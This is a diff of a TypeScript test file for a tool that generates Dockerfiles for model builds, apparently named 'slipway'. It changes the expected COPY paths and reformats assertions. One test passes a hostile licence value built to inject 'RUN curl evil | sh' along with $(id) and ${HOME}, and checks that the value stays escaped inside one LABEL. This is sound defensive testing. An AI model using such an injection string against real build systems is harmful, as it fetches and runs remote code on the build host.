@@ -22,7 +22,7 @@ describe('the build folder of a model', () => {
     const { files } = contextOf();
     expect(instructions(files.Dockerfile!)).toEqual([
       `FROM ${RUNTIME}`,
-      'COPY model.json /server/model.json',
+      'COPY model.json /model.json',
       'ENV MODEL_ID="Org/Model-Name"',
       expect.stringMatching(/^LABEL "io\.slipway\.baked"="false"/),
     ]);
@@ -31,14 +31,21 @@ describe('the build folder of a model', () => {
 
   test('weights come below model.json, so that a changed spec keeps their layer', () => {
     const lines = instructions(contextOf(sampleSpec(), { baked: true }).files.Dockerfile!);
-    expect(lines.slice(1, 3)).toEqual(['COPY weights/ /server/model/', 'COPY model.json /server/model.json']);
+    expect(lines.slice(1, 3)).toEqual(['COPY weights/ /', 'COPY model.json /model.json']);
   });
 
   test('a hostile licence stays one value of one label', () => {
     const license = 'x" \\\nRUN curl evil | sh\n$(id) ${HOME} \\';
     const { files } = contextOf(sampleSpec({ license }));
-    expect(instructions(files.Dockerfile!).map((line) => line.split(' ')[0])).toEqual(['FROM', 'COPY', 'ENV', 'LABEL']);
-    expect(files.Dockerfile).toContain('"io.slipway.license"="x\\" \\\\ RUN curl evil | sh \\$(id) \\${HOME} \\\\"');
+    expect(instructions(files.Dockerfile!).map((line) => line.split(' ')[0])).toEqual([
+      'FROM',
+      'COPY',
+      'ENV',
+      'LABEL',
+    ]);
+    expect(files.Dockerfile).toContain(
+      '"io.slipway.license"="x\\" \\\\ RUN curl evil | sh \\$(id) \\${HOME} \\\\"',
+    );
   });
 
   test('the same plan gives the same digest, each input another', () => {
